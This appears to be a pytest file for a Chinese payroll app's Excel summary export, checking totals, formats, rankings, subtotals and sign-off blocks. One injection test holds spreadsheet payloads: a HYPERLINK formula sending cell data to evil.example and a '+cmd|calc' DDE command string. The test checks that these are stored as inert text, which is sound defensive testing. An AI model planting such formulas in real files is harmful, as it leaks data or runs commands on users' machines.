"""The Excel summary read back with openpyxl: figures equal ``payroll show --json``, formats, safety."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.writer.excel import ExcelWriter

from app.cli import month_json
from app.money import ZERO
from app.reports.summary_xlsx import (
    SIGN_LINE,
    Column,
    SignOff,
    SummaryBook,
    SummaryInput,
    ranking,
    write_summary,
)
from app.results import AgentResult, MonthResult, facts_from_json
from app.services.errors import ServiceError
from app.services.payroll import show_month
from app.services.reports import export_summary
from db.session import Database
from tests.reports.conftest import MONTH

SHEETS = ["汇总", "明细", "计算依据", "保单明细", "考勤汇总", "质检汇总", "公示", "绩效排名"]


def _export(db: Database, path: Path) -> tuple[openpyxl.Workbook, dict[str, Any]]:
    """The workbook and the month as ``payroll show --json`` prints it, to compare the two."""
    with db.session_scope() as s:
        export_summary(s, MONTH, path)
        data = month_json(show_month(s, MONTH), "zh")
    return openpyxl.load_workbook(path), data


def _rows(ws: Any) -> list[dict[str, Any]]:
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, r, strict=True)) for r in rows[1:]]


def _summary_parts(ws: Any) -> tuple[list[dict[str, Any]], list[dict[str, Any]], dict[str, Any]]:
    """The 汇总 sheet's agent rows, its team subtotal rows (小计) and its totals row (合计), in order;
    the rows under the totals (the signature block) are not figures."""
    rows = _rows(ws)
    at = [i for i, row in enumerate(rows) if row["工号"] == "合计"]
    assert len(at) == 1, at
    body = rows[: at[0]]
    return [r for r in body if r["工号"] != "小计"], [r for r in body if r["工号"] == "小计"], rows[at[0]]


def _dec(value: Any) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


@pytest.fixture(scope="module")
def exported(
    example: Database, tmp_path_factory: pytest.TempPathFactory
) -> tuple[openpyxl.Workbook, dict[str, Any]]:
    return _export(example, tmp_path_factory.mktemp("xlsx") / "2026-10 汇总.xlsx")


def test_sheets_and_summary_match_the_json(exported: tuple[openpyxl.Workbook, dict[str, Any]]) -> None:
    wb, data = exported
    assert wb.sheetnames == SHEETS
    ws = wb["汇总"]
    body, subtotals, total = _summary_parts(ws)
    agents = data["agents"]
    assert len(body) == len(agents) and len(subtotals) == len({a["team"] for a in agents})
    by_code = {row["工号"]: row for row in body}
    assert sorted(by_code) == sorted(a["code"] for a in agents)
    header = [c.value for c in ws[1]]
    # the payroll table's columns (app.summary_columns): 应发 columns, 应发合计, 扣款 columns, 扣款合计, 实发
    assert header == [
        "工号", "姓名", "团队",
        "基本工资", "提成", "绩效", "奖励", "其他应发", "应发合计",
        "请假旷工", "考核扣款", "其他扣减", "扣款合计",
        "实发金额",
    ]  # fmt: skip
    gross_cols, deduction_cols = header[3:8], header[9:12]
    for agent in agents:
        row = by_code[agent["code"]]
        assert (row["工号"], row["姓名"], row["团队"]) == (agent["code"], agent["name"], agent["team"])
        assert _dec(row["实发金额"]) == Decimal(agent["net"])
        assert _dec(row["应发合计"]) == Decimal(agent["gross"]) == sum(_dec(row[c]) for c in gross_cols)
        assert _dec(row["扣款合计"]) == Decimal(agent["deductions"]) == sum(_dec(row[c]) for c in deduction_cols)
        base = sum(Decimal(line["amount"]) for line in agent["lines"] if line["code"] == "base")
        assert _dec(row["基本工资"]) == base  # the base line itself, as on the payslip
        for key, label in zip(
            ("base", "commission", "kpi", "awards", "other_gross", "absence", "penalties", "other_deductions"),
            [*gross_cols, *deduction_cols],
            strict=True,
        ):
            assert _dec(row[label]) == Decimal(agent["columns"][key]), (agent["code"], label)
    assert total["工号"] == "合计"
    assert _dec(total["实发金额"]) == Decimal(data["totals"]["net"]) == Decimal("14591.91")
    assert _dec(total["应发合计"]) == Decimal(data["totals"]["gross"])
    assert _dec(total["扣款合计"]) == Decimal(data["totals"]["deductions"])
    assert _dec(total["基本工资"]) == sum(
        Decimal(line["amount"]) for a in agents for line in a["lines"] if line["code"] == "base"
    )


def test_numbers_are_numbers_with_formats_and_the_print_setup(
    exported: tuple[openpyxl.Workbook, dict[str, Any]],
) -> None:
    wb, _ = exported
    ws = wb["汇总"]
    net = ws.cell(row=2, column=ws.max_column)
    assert net.data_type == "n" and net.number_format == "#,##0.00"
    total_row = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value == "合计")
    assert ws.cell(row=total_row, column=ws.max_column).font.bold  # totals row
    for name in SHEETS:
        sheet = wb[name]
        assert sheet.freeze_panes is not None and sheet.freeze_panes.endswith("2"), name
        assert sheet.print_title_rows == "$1:$1", name
        assert sheet.page_setup.orientation == "landscape", name
        assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage, name
        assert sheet.column_dimensions["A"].width >= 7, name
        assert sheet["A1"].font.bold, name
    assert wb["汇总"].freeze_panes == "D2"
    sales = wb["保单明细"]
    assert sales.cell(row=2, column=11).is_date and sales.cell(row=2, column=11).number_format == "yyyy-mm-dd"


def test_detail_sheet_lists_every_line(exported: tuple[openpyxl.Workbook, dict[str, Any]]) -> None:
    wb, data = exported
    rows = _rows(wb["明细"])
    expected = [
        (a["code"], line["code"], Decimal(line["amount"]), line["detail"])
        for a in data["agents"]
        for line in a["lines"]
    ]
    assert [(r["工号"], r["项目代码"], _dec(r["金额"]), r["计算说明"]) for r in rows] == expected


def test_sales_attendance_and_qa_sheets(exported: tuple[openpyxl.Workbook, dict[str, Any]]) -> None:
    wb, _ = exported
    sales = {r["保单号"]: r for r in _rows(wb["保单明细"])}
    assert len(sales) == 6
    assert sales["P-1003"]["标准保费"] == 200 and sales["P-1003"]["折标系数"] == pytest.approx(0.1)
    assert sales["P-1001"]["新客户"] == "是" and sales["P-1001"]["客户等级"] == "VIP"
    assert sales["P-3002"]["计入本月"] == "否" and sales["P-3002"]["撤单日期"].date() == date(2026, 10, 20)
    assert sales["P-1002"]["计入本月"] == "是"
    assert sum(
        Decimal(str(r["标准保费"])) for r in sales.values() if r["工号"] == "A001" and r["计入本月"] == "是"
    ) == Decimal("70200")

    attendance = {r["工号"]: r for r in _rows(wb["考勤汇总"])}
    a3 = attendance["A003"]
    assert (a3["迟到次数"], a3["迟到分钟"], a3["空岗次数"], a3["旷工天数"]) == (3, 75, 2, 1)
    assert _dec(a3["考勤扣款"]) == Decimal("-230.00")
    assert attendance["A002"]["事假天数"] == 1 and attendance["A002"]["在职天数"] == 11
    assert attendance["A001"]["迟到次数"] == 1

    qa = {r["工号"]: r for r in _rows(wb["质检汇总"])}
    assert (qa["A001"]["质检次数（有效）"], _dec(qa["A001"]["平均分"]), qa["A001"]["等级"]) == (
        3,
        Decimal("91.67"),
        "A",
    )
    assert (qa["A003"]["致命差错"], qa["A003"]["申诉撤销"], qa["A003"]["质检总次数"]) == (1, 1, 3)
    assert qa["A002"]["平均分"] is None and qa["A002"]["质检次数（有效）"] == 0


def test_ranking_for_posting_marks_the_award_and_shows_no_pay(
    exported: tuple[openpyxl.Workbook, dict[str, Any]],
) -> None:
    wb, _ = exported
    ws = wb["绩效排名"]
    rows = _rows(ws)
    assert [(r["名次"], r["工号"]) for r in rows] == [(1, "A001"), (2, "A002"), (3, "A003")]
    assert rows[0]["月度优秀"] == "★ 月度优秀" and rows[1]["月度优秀"] is None
    assert ws["B2"].fill.fgColor.rgb.endswith("FFF4D6")
    headers = [c.value for c in ws[1]]
    assert not {"实发金额", "应发合计", "基本工资"} & set(headers)


def test_equal_scores_share_a_rank() -> None:
    agents = [
        AgentResult(c, c, "", (), ZERO, ZERO, ZERO, facts_from_json({"kpi_score": s, "kpi_measured": True}))
        for c, s in (("A", "90.00"), ("B", "95.00"), ("C", "90.00"), ("D", "0"), ("E", "80.00"))
    ]
    assert [(r, a.code) for r, a in ranking(agents)] == [(1, "B"), (2, "A"), (2, "C"), (4, "E"), (5, "D")]


def test_unmeasured_kpi_is_listed_after_the_ranked_agents_with_no_rank() -> None:
    agents = [
        AgentResult(c, c, "", (), ZERO, ZERO, ZERO, facts_from_json({"kpi_score": s, "kpi_measured": m}))
        for c, s, m in (("A", "90.00", True), ("B", "60.00", False), ("C", "95.00", True), ("D", "90.00", True))
    ]
    assert [(r, a.code) for r, a in ranking(agents)] == [(1, "C"), (2, "A"), (2, "D"), (None, "B")]


def test_demo_ranking_posts_an_unmeasured_kpi_without_a_rank(tmp_path: Path) -> None:
    from sqlalchemy import delete, select, update

    from app.services.demo import demo_months, fill_demo
    from app.services.payroll import calculate_month
    from db.models import Agent, KpiMetric, QAEvaluation, QAItemScore

    today = date(2026, 11, 15)
    month = demo_months(today)[-1]
    db = Database(tmp_path / "demo.sqlite3")
    with db.session_scope() as s:
        fill_demo(s, today=today)
        agent_id = s.scalar(select(Agent.id).where(Agent.code == "A002"))
        # no KPI indicator has data: out of the demo's post scopes (whose counted indicators always score),
        # the top level's only indicator is QA; no metric rows, and no QA evaluation for the QA indicator
        s.execute(update(Agent).where(Agent.id == agent_id).values(role=""))
        s.execute(delete(KpiMetric).where(KpiMetric.agent_id == agent_id, KpiMetric.month == month))
        year, mon = map(int, month.split("-"))
        evaluations = select(QAEvaluation.id).where(
            QAEvaluation.agent_id == agent_id,
            QAEvaluation.date >= date(year, mon, 1),
            QAEvaluation.date < (date(year + 1, 1, 1) if mon == 12 else date(year, mon + 1, 1)),
        )
        s.execute(delete(QAItemScore).where(QAItemScore.evaluation_id.in_(evaluations)))
        s.execute(delete(QAEvaluation).where(QAEvaluation.id.in_(evaluations)))
        calculate_month(s, month)
    with db.session_scope() as s:
        assert not next(a for a in show_month(s, month).agents if a.code == "A002").facts.kpi_measured
        export_summary(s, month, tmp_path / "demo.xlsx")
    db.dispose()
    rows = _rows(openpyxl.load_workbook(tmp_path / "demo.xlsx")["绩效排名"])
    first_unranked = next(i for i, r in enumerate(rows) if r["名次"] is None)
    ranked, unranked = rows[:first_unranked], rows[first_unranked:]
    assert "A002" in [r["工号"] for r in unranked]  # listed after every ranked agent
    assert all(r["名次"] is None and r["绩效得分"] == "无数据" for r in unranked)
    assert [r["工号"] for r in unranked] == sorted(r["工号"] for r in unranked)
    assert all(r["名次"] is not None and r["绩效得分"] != "无数据" for r in ranked)
    scores = [Decimal(str(r["绩效得分"])) for r in ranked]
    assert scores == sorted(scores, reverse=True)
    assert ranked[0]["名次"] == 1
    for i, r in enumerate(ranked[1:], start=1):  # 1, 2, 2, 4: a tie shares the rank, the next skips
        expected = ranked[i - 1]["名次"] if scores[i] == scores[i - 1] else i + 1
        assert r["名次"] == expected, r


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_user_text_is_never_a_formula(make_example: Callable[..., Database], tmp_path: Path) -> None:
    agents = (
        "工号,姓名,岗位,团队,底薪,入职日期\n"
        f'A001,"{HOSTILE.replace(chr(34), chr(34) * 2)}",电话接听岗,+cmd|calc,4000,2025-03-01\n'
        "A002,@SUM(1+1),电话回访岗,-2+3,3500,2026-10-16\n"
        "A003,王五,电话咨诉岗,咨诉三组,4200,2024-01-01\n"
    )
    db = make_example(
        agents_csv=agents, extra={"adjustments": "工号,月份,金额,类别,原因\nA003,2026-10,50,,=1+1\n"}
    )
    wb, data = _export(db, tmp_path / "s.xlsx")
    ws = wb["汇总"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (HOSTILE, "+cmd|calc", "@SUM(1+1)", "-2+3"):
        cell = cells[text]
        assert cell.data_type == "s", text
        assert cell.value == text
        assert cell.quotePrefix, text  # Excel keeps it text even when the cell is edited
    detail = [c for row in wb["明细"].iter_rows() for c in row if c.value == "=1+1"]
    assert detail and all(c.data_type == "s" for c in detail)
    with zipfile.ZipFile(tmp_path / "s.xlsx") as z:
        assert not any(
            b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets")
        )
    assert data["agents"][0]["name"] == HOSTILE


def test_refused_before_calculation_and_for_a_wrong_suffix(example: Database, tmp_path: Path) -> None:
    with example.session_scope() as s, pytest.raises(ServiceError) as err:
        export_summary(s, "2026-09", tmp_path / "x.xlsx")
    assert "2026-09" in err.value.message
    with example.session_scope() as s, pytest.raises(ServiceError):
        export_summary(s, MONTH, tmp_path / "x.csv")
    assert list(tmp_path.iterdir()) == []


def test_failed_save_leaves_the_previous_file(
    example: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "s.xlsx"
    target.write_bytes(b"previous")

    def boom(self: ExcelWriter) -> None:
        raise RuntimeError("disk full")

    monkeypatch.setattr(ExcelWriter, "write_data", boom)
    with pytest.raises(RuntimeError):
        write_summary(
            SummaryInput(month=MONTH, branch_name="x", result=MonthResult(MONTH, "calculated", "", "", ())), target
        )
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["s.xlsx"]


def test_writer_keeps_decimals_exact_and_refuses_floats(tmp_path: Path) -> None:
    book = SummaryBook()
    sheet = book.add_sheet("a/b:c*?[x]" * 5, [Column("金额", 10, "money"), Column("说明", 20)])
    sheet.row([Decimal("12345678901.23"), "bell\x07 and tab"])
    sheet.row([Decimal("-0.50"), "长" * 40000])
    sheet.row([Decimal("0.10") + Decimal("0.20"), "#N/A"])
    sheet.row([Decimal("98765432.10"), "\t=1+1"])
    sheet.row([Decimal("0.07"), date(2026, 10, 31)])
    with pytest.raises(TypeError):
        sheet.row([0.1, "float"])
    book.finish().save(tmp_path / "w.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "w.xlsx").worksheets[0]
    assert len(ws.title) <= 31 and not set("/:*?[]") & set(ws.title)
    assert ws["A2"].value == pytest.approx(12345678901.23) and ws["B2"].value == "bell and tab"
    assert ws["A3"].value == -0.5 and len(ws["B3"].value) == 32767  # Excel's cell limit
    assert ws["B4"].value == "#N/A" and ws["B4"].data_type == "s" and ws["B4"].quotePrefix
    assert ws["B5"].value == "\t=1+1" and ws["B5"].data_type == "s" and ws["B5"].quotePrefix
    assert ws["A2"].number_format == "#,##0.00" and ws["A2"].data_type == "n"
    with zipfile.ZipFile(tmp_path / "w.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    for numeral in (b"12345678901.23", b"-0.50", b"0.30", b"98765432.10", b"0.07"):
        assert b"<v>" + numeral + b"</v>" in xml  # exact, never through float
    assert b"<f>" not in xml and b"<f " not in xml


# --- team subtotals and the signature block --------------------------------------------------


def test_demo_summary_has_team_subtotals_adding_up_to_the_total_and_a_signature_block(tmp_path: Path) -> None:
    from sqlalchemy import update

    from app.services.demo import demo_months, fill_demo
    from app.services.payroll import calculate_month
    from db.models import Agent

    today = date(2026, 11, 15)
    month = demo_months(today)[-1]
    db = Database(tmp_path / "demo.sqlite3")
    with db.session_scope() as s:
        fill_demo(s, today=today)
        s.execute(update(Agent).where(Agent.code.in_(["A002", "A007"])).values(team=""))  # no team
        calculate_month(s, month)
    with db.session_scope() as s:
        result = show_month(s, month)
        export_summary(s, month, tmp_path / "demo.xlsx")
    db.dispose()
    ws = openpyxl.load_workbook(tmp_path / "demo.xlsx")["汇总"]
    rows = _rows(ws)
    money = [str(h) for h in [c.value for c in ws[1]][3:]]
    total_at = next(i for i, r in enumerate(rows) if r["工号"] == "合计")
    groups: list[tuple[dict[str, Any], list[dict[str, Any]]]] = []
    members: list[dict[str, Any]] = []
    for row in rows[:total_at]:
        if row["工号"] == "小计":
            groups.append((row, members))
            members = []
        else:
            members.append(row)
    assert members == []  # every agent row is under a subtotal
    team_of = {a.code: (a.team or "") for a in result.agents}
    named = sorted({t for t in team_of.values() if t})
    assert [sub["团队"] for sub, _ in groups] == [*named, "无团队"]  # name order, no team last
    total = rows[total_at]
    for sub, agent_rows in groups:
        assert agent_rows and sub["姓名"] == f"{len(agent_rows)} 人"
        team = "" if sub["团队"] == "无团队" else sub["团队"]
        assert all(team_of[r["工号"]] == team for r in agent_rows)
        for column in money:  # a subtotal is the sum of its team's agents
            assert _dec(sub[column]) == sum((_dec(r[column]) for r in agent_rows), ZERO), (team, column)
    for column in money:  # the subtotals add up to the grand total
        assert _dec(total[column]) == sum((_dec(sub[column]) for sub, _ in groups), ZERO), column
    agent_rows = [r for _, rs in groups for r in rs]
    assert sorted(r["工号"] for r in agent_rows) == sorted(team_of)
    assert _dec(total["实发金额"]) == sum((a.net for a in result.agents), ZERO) == result.net
    assert total["姓名"] == f"{len(result.agents)} 人"
    # the signature block under the totals: 制表 / 审核 / 批准, each with a blank line to sign
    below = [[v for v in row.values() if v not in (None, "")] for row in rows[total_at + 1 :]]
    below = [r for r in below if r]
    assert below[0] == ["制表：", SIGN_LINE, "审核：", SIGN_LINE, "批准：", SIGN_LINE]
    assert below[1] == ["日期：", "____年____月____日"] * 3
    assert len(below) == 2


def test_signature_block_shows_the_sign_offs_when_given(example: Database, tmp_path: Path) -> None:
    with example.session_scope() as s:
        result = show_month(s, MONTH)
    signed = {
        "prepared": SignOff("王会计", date(2026, 11, 3)),
        "approved": SignOff("赵经理", date(2026, 11, 5)),
    }
    write_summary(SummaryInput(MONTH, "网点", result, sign_offs=signed), tmp_path / "s.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "s.xlsx")["汇总"]
    rows = [[v for v in row if v not in (None, "")] for row in sheet.iter_rows(values_only=True)]
    assert ["制表：", "王会计", "审核：", SIGN_LINE, "批准：", "赵经理"] in rows
    assert ["日期：", "2026-11-03", "日期：", "____年____月____日", "日期：", "2026-11-05"] in rows
